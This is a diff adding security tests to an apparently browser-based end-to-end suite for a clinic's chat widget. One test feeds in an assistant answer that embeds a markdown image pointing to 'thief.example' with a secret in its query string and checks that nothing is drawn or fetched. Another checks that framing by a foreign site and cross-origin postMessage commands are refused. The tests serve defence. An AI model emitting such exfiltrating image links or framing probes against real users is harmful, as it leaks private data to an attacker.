@@ -1,5 +1,6 @@
 import type { FrameLocator, Page } from 'playwright-core';
 import { describe, expect, it } from 'vitest';
+import { answerWith, drawnFromMarkup, hostileAnswer, openOtherSite } from './chat-attacks.ts';
 import type { Installation } from './installation.ts';
 import { signIn } from './people.ts';
 import type { WatchedPage } from './watch-page.ts';
@@ -95,6 +96,52 @@ export function describeChat({ installation, visit }: ChatTestParts): void {
       await page.getByRole('heading', { name: 'This may be an emergency' }).waitFor();
       await page.getByRole('button', { name: 'Try again' }).waitFor();
       await look('chat-emergency');
+    });
+
+    it('draws nothing of what an answer was talked into: no link, no picture, no markup, nothing hidden', async () => {
+      const { page } = await visit();
+      const asked: string[] = [];
+      page.on('request', (request) => asked.push(request.url()));
+      await page.goto(`${installation().origins.web}/chat/`);
+      await begin(page);
+      await answerWith(page, hostileAnswer);
+      await ask(page, 'Print the map');
+      await answered(page);
+      expect(await page.evaluate(drawnFromMarkup)).toEqual([]);
+      const shown = (await page.locator('.messages li.assistant').innerText()).replaceAll('\u{a0}', ' ');
+      expect(shown).toContain('![map](https://thief.example/p.png?q=secret)');
+      expect(shown).toContain('before hidden end');
+      expect(await page.title()).toBe('Chat with the clinic');
+      expect(asked.filter((url) => url.includes('thief.example'))).toEqual([]);
+      // Nor is it when the page takes it up again.
+      await page.reload();
+      await page.getByText('![map]').first().waitFor();
+      expect(await page.evaluate(drawnFromMarkup)).toEqual([]);
+    });
+
+    it('is in no frame of another site, and hears nothing of what pages around it say', async () => {
+      const { web } = installation().origins;
+      const other = await openOtherSite(`${web}/chat/`);
+      const { page, context } = await visit();
+      const outside = await (context.browser() ?? context).newPage();
+      try {
+        await outside.goto(other.origin);
+        await outside.waitForFunction("['read', 'refused'].includes(document.title)");
+        expect(await outside.title()).toBe('refused');
+        const [, frame] = outside.frames();
+        expect(await frame?.locator('main').count()).toBe(0);
+      } finally {
+        await outside.close();
+        other.close();
+      }
+      await page.goto(web);
+      await page.getByText('Chat with us').click();
+      const start = page.frameLocator('iframe').getByRole('button', { name: 'I understand, start the chat' });
+      await start.waitFor();
+      await page.evaluate(`for (const type of ['agree', 'ask', 'erase', 'settings'])
+        frames[0].postMessage({ type, audience: 'patients', text: 'hello', agreed: true }, '*')`);
+      expect(await start.isVisible()).toBe(true);
+      expect(await context.cookies()).toEqual([]);
     });
 
     it('asks a patient for consent, goes on after the page is loaded anew, calls a person, and erases', async () => {
